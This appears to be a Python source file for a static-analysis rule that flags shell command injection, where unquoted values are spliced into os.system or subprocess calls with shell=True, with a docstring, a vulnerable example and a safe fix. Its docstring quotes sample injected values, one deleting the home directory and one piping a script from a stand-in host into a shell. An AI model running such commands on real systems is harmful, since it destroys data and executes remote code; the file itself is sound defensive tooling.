"""COMMAND_INJECTION: a shell command line is built from values with an f-string, `%`, `.format()` or `+`.

What it does:
    Flags a shell command line built by splicing in a value that is neither
    a constant nor quoted with `shlex.quote`. The shells are `os.system`,
    `os.popen`, `subprocess.*` with `shell=True`, `subprocess.getoutput` and
    `asyncio.create_subprocess_shell`; the line may be built on the call or
    in a variable assigned earlier in the function.

Why it matters:
    The shell reads the whole string, so a value such as `x; rm -rf ~` or
    `$(curl evil.sh | sh)` runs as a command of its own with the program's
    rights. File names, branch names and form fields all carry such text.

Example:
    def thumbnail(path):
        os.system(f"convert {path} -resize 128x128 thumb.png")

Use instead:
    def thumbnail(path):
        subprocess.run(["convert", path, "-resize", "128x128", "thumb.png"], check=True)

Notes:
    A value formatted as a number (`%d`, `{n:d}`) or passed through `int()`,
    `shlex.quote()` or `shlex.join()` is safe; so is an argument list without
    `shell=True`, and a command held in a variable the function did not build.
    A splice at the very start of the command is the program itself
    (`f"{editor} {path}"`: configured, not data) and is not judged. A value
    spliced inside quotes, or as a computed expression rather than a plain
    name or attribute, is reported as WARN: quoting in the shell is easy to
    get wrong, but someone tried.
"""

from __future__ import annotations

import ast
import re
from typing import Iterator

from analyzer.model import Severity
from analyzer.registry import Report, rule
from analyzer.rules._strings import Splice, assigned_values, callee_text, excerpt, splices
from analyzer.sinks import sink_kind, sink_names

_ALWAYS_SHELL = frozenset(
    {"system", "popen", "getoutput", "getstatusoutput", "create_subprocess_shell"}
)
_COMMAND_KEYWORDS = ("args", "cmd", "command")
_SAFE_CALLS = re.compile(r"quote|escape|^shlex\.join$|(?:^|\.)(?:int|float|len|abs|round)$")
_STYLE = {"f-string": "an f-string", "%-format": "`%` formatting", ".format()": "`.format()`"}


@rule("COMMAND_INJECTION", Severity.BLOCK, on=ast.Call, precision=0.92, calls=sink_names("command"))
def check(call: ast.Call, ctx) -> Iterator[Report] | None:
    if sink_kind(call) != "command" or ctx.is_test_file or not _runs_a_shell(call):
        return None  # most calls: no generator is even created
    return _findings(call, ctx)


def _findings(call: ast.Call, ctx) -> Iterator[Report]:
    built, via = _command_built(call, ctx.function)
    for line, value in built:
        for splice in splices(value) or ():
            if _safe(splice) or not splice.before.strip() or _constant_here(splice.value, ctx.function, call.lineno):
                continue  # a number, a quoted value, or the program itself (`{editor} file`: configured, not data)
            quoted = splice.before.count("'") % 2 == 1 or splice.before.count('"') % 2 == 1
            where = f" (`{via}`, built on line {line})" if via else ""
            yield Report(
                line=call.lineno,
                end_line=call.end_lineno,
                message=f"`{callee_text(call)}()` runs a shell command{where} that splices `{ast.unparse(splice.value)}` "
                f"with {_STYLE.get(splice.style, 'string concatenation')}: `{excerpt(splice)}`; pass an argument list "
                "without a shell, or quote it with `shlex.quote()`",
                evidence=tuple(sorted({line, call.lineno})),
                severity=None if _plain_value(splice.value) and not quoted else Severity.WARN,
            )
            return


def _command_built(call: ast.Call, fn) -> tuple[list[tuple[int, ast.expr]], str | None]:
    """The expressions that build the command line (with their lines), and the variable that carries it."""
    command = call.args[0] if call.args else next((k.value for k in call.keywords if k.arg in _COMMAND_KEYWORDS), None)
    if isinstance(command, ast.Name):
        return assigned_values(fn, command.id, call.lineno), command.id
    return ([(call.lineno, command)] if command is not None else []), None


def _runs_a_shell(call: ast.Call) -> bool:
    func = call.func
    last = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
    if last in _ALWAYS_SHELL:
        return True
    for keyword in call.keywords:
        if keyword.arg == "shell":
            return isinstance(keyword.value, ast.Constant) and bool(keyword.value.value)
    return False


def _safe(splice: Splice) -> bool:
    if splice.numeric or isinstance(splice.value, ast.Constant):
        return True
    value = splice.value
    if isinstance(value, ast.Name) and value.id.isupper():
        return True
    for node in ast.walk(value):
        if isinstance(node, ast.Call) and _SAFE_CALLS.search(callee_text(node)):
            return True
    return False


def _constant_here(value: ast.expr, fn, line: int) -> bool:
    """A local name the function assigns only from literals."""
    if not isinstance(value, ast.Name):
        return False
    assigned = assigned_values(fn, value.id, line)
    return bool(assigned) and all(isinstance(v, ast.Constant) for _, v in assigned)


def _plain_value(value: ast.expr) -> bool:
    while isinstance(value, (ast.Attribute, ast.Subscript)):
        value = value.value
    return isinstance(value, ast.Name)
